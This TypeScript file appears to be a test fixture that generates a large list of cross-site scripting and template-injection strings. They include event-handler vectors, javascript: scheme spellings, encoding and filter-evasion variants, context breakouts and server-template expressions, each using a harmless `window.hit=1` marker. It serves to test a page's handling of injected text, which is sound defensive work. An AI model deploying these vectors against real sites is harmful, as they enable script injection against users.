/*
 * Texts that execute code where a page takes them for markup, a URL or a template. Each injection vector (`@` is the placeholder for the payload) is
 * combined with each payload. A payload that executes sets `hit` on the window.
 */

const RUN = ['window.hit=1', 'top["hit"]=1', 'eval("hit=1")', 'import("data:text/javascript,window.hit=1")'];

const ELEMENTS = [
  '<script>@</script>',
  '<ScRiPt >@</sCrIpT>',
  '</script><script>@</script>',
  '</title></textarea></style><script>@</script>',
  '<img src=x onerror=@>',
  '<img src=x:y onerror="@">',
  '<svg onload=@>',
  '<svg/onload=@//',
  '<svg><script>@</script></svg>',
  '<math><mi//xlink:href="data:x,<script>@</script>">',
  '<body onload=@>',
  '<input autofocus onfocus=@>',
  '<details open ontoggle=@>',
  '<video><source onerror=@></video>',
  '<audio src=x onerror=@>',
  '<iframe srcdoc="<script>parent.@</script>"></iframe>',
  '<iframe src="javascript:@"></iframe>',
  '<object data="javascript:@"></object>',
  '<embed src="javascript:@">',
  '<a href="javascript:@">x</a>',
  '<form action="javascript:@"><button>x</button></form>',
  '<button formaction="javascript:@">x</button>',
  '<marquee onstart=@>x</marquee>',
  '<style>@import "javascript:@"</style>',
  '<div style="background:url(javascript:@)">x</div>',
  '<base href="javascript:@//">',
  '<meta http-equiv=refresh content="0;url=javascript:@">',
  '<link rel=stylesheet href="javascript:@">',
  '<template><script>@</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=@>">',
  '<!--><script>@</script>-->',
  '<![CDATA[<script>@</script>]]>',
  '"><script>@</script>',
  "'><img src=x onerror=@>",
  '" autofocus onfocus=@ x="',
  '` onmouseover=@ `',
  'javascript:@',
  'JaVaScRiPt:@',
  'data:text/html,<script>@</script>',
  'vbscript:@',
  '<svg><a xlink:href="javascript:@"><text y=9>x</text></a></svg>',
  '<svg><animate attributeName=href values="javascript:@" /></svg>',
  '<svg><set attributeName=onmouseover to="@"/></svg>',
  '<svg><foreignObject><img src=x onerror=@></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=a onload=@>#a"></use></svg>',
  '<math><a href="javascript:@">x</a></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=@></style></mglyph></table></mtext></math>',
  '<p is="x-y" onclick=@>x</p>',
  '<select><option><img src=x onerror=@></option></select>',
  '<table background="javascript:@"><td>x</td></table>',
  '<portal src="javascript:@"></portal>',
  '<dialog open onclose=@><form method=dialog><button autofocus>x</button></form></dialog>',
  '<x contenteditable autofocus onfocus=@>x</x>',
  '<a href=# onclick=@ style="position:fixed;inset:0">x</a>',
  '<img srcset="x 1x" onerror=@>',
  '<img src="1" alt="`onerror=@`">',
];

const HANDLERS = [
  'abort', 'animationend', 'animationstart', 'auxclick', 'beforeinput', 'beforetoggle', 'blur', 'cancel', 'canplay', 'change', 'click', 'contextmenu', 'copy', 'cut', 'dblclick', 'drag', 'drop', 'error',
  'focus', 'focusin', 'formdata', 'gotpointercapture', 'hashchange', 'input', 'keydown', 'load', 'message', 'mousedown', 'mouseover', 'pageshow', 'paste', 'pointerenter', 'pointerover', 'popstate', 'reset',
  'resize', 'scroll', 'scrollend', 'search', 'submit', 'toggle', 'transitionend', 'transitionrun', 'unload', 'wheel',
];
const WEARERS = ['<b on#=window.hit=1 tabindex=1>x</b>', '<svg><g/on#="window.hit=1"></svg>'];

/** Spellings of a URL scheme that a browser may treat as equivalent. */
const SPELLINGS: readonly ((scheme: string) => string)[] = [
  (scheme) => `${scheme}:window.hit=1`,
  (scheme) => ` ${scheme} :window.hit=1`,
  (scheme) => `${scheme}&colon;window.hit=1`,
  (scheme) => `${scheme.slice(0, 3)}&Tab;${scheme.slice(3)}:window.hit=1`,
  (scheme) => `${scheme.slice(0, 2)}\u200b${scheme.slice(2)}:window.hit=1`,
  (scheme) => `<a href="${scheme}:window.hit=1">x</a>`,
  (scheme) => `[x](${scheme}:window.hit=1)`,
];
const SCHEMES = ['javascript', 'vbscript', 'livescript', 'data', 'blob', 'view-source', 'filesystem', 'file', 'jar', 'ms-msdt', 'intent'];

const hex = (sign: string) => (sign.codePointAt(0) ?? 0).toString(16);
const each = (text: string, write: (sign: string) => string) => Array.from(text, write).join('');
/** Encodings of a text that may be decoded on its way to the page. */
const WRITINGS: readonly ((text: string) => string)[] = [
  encodeURIComponent,
  (text) => encodeURIComponent(encodeURIComponent(text)),
  (text) => each(text, (sign) => `&#${sign.codePointAt(0) ?? 0};`),
  (text) => each(text, (sign) => `&#x${hex(sign)}`),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  (text) => text.replaceAll(/[<>"'=]/g, (sign) => `\\u00${hex(sign)}`),
  (text) => text.replaceAll(/[<>"'=]/g, (sign) => `\\x${hex(sign)}`),
  (text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  (text) => text.replaceAll(/[!-~]/g, (sign) => String.fromCodePoint((sign.codePointAt(0) ?? 0) + 0xfee0)),
  (text) => text.replaceAll('<', '%c0%bc').replaceAll('>', '%c0%be'),
  (text) => Buffer.from(text).toString('base64'),
  (text) => text.replaceAll('<', '<<').replaceAll('>', '>>'),
  (text) => text.replaceAll('<', '‹').replaceAll('>', '›'),
];
const WRITTEN = ['<script>hit=1</script>', '<img src=x onerror=hit=1>', '<svg/onload=hit=1>', '"onfocus="hit=1" autofocus="', '<a href="javascript:hit=1">'];

/** Sequences that break out of a context in which an owner's text may appear. */
const LEAVING = ['"', "'", '`', '">', "'>", '-->', ']]>', '</style>', '</textarea>', '</title>', '</noscript>', '\\"', '*/', '");', "');", '`);', '}', '});', '\u2028'];
const LEFT = ['<img src=x onerror=window.hit=1>', ';window.hit=1//', ' onpointerover=window.hit=1 '];

const TEMPLATES = [
  ...['7*7', 'constructor.constructor("hit=1")()', 'this.constructor', '"a".toUpperCase()', 'process.env'].flatMap((asked) => [`{{${asked}}}`, `\${${asked}}`, `#{${asked}}`, `<%= ${asked} %>`, `{% ${asked} %}`, `[[${asked}]]`, `@(${asked})`, `{{{${asked}}}}`]),
  '{{count}}', '$t(form.choose)', '$t(form.choose, {"count": 1})', '<0>x</0>', '<1/>', '</0>', '{0}', '%{7*7}', '*{T(java.lang.Runtime)}', '{{=<% %>=}}', '{{#each this}}', '{{-', '-}}', '{{', '}}', '${', '$&$`$\'$1', '{{name, uppercase}}',
];

export const MARKUP: readonly string[] = [
  ...RUN.flatMap((run) => ELEMENTS.map((element) => element.replaceAll('@', () => run))),
  ...HANDLERS.flatMap((handler) => WEARERS.map((wearer) => wearer.replace('#', handler))),
  ...SCHEMES.flatMap((scheme) => SPELLINGS.map((spell) => spell(scheme))),
  ...WRITTEN.flatMap((text) => WRITINGS.map((write) => write(text))),
  ...LEAVING.flatMap((leave) => LEFT.map((left) => leave + left)),
  ...TEMPLATES,
];
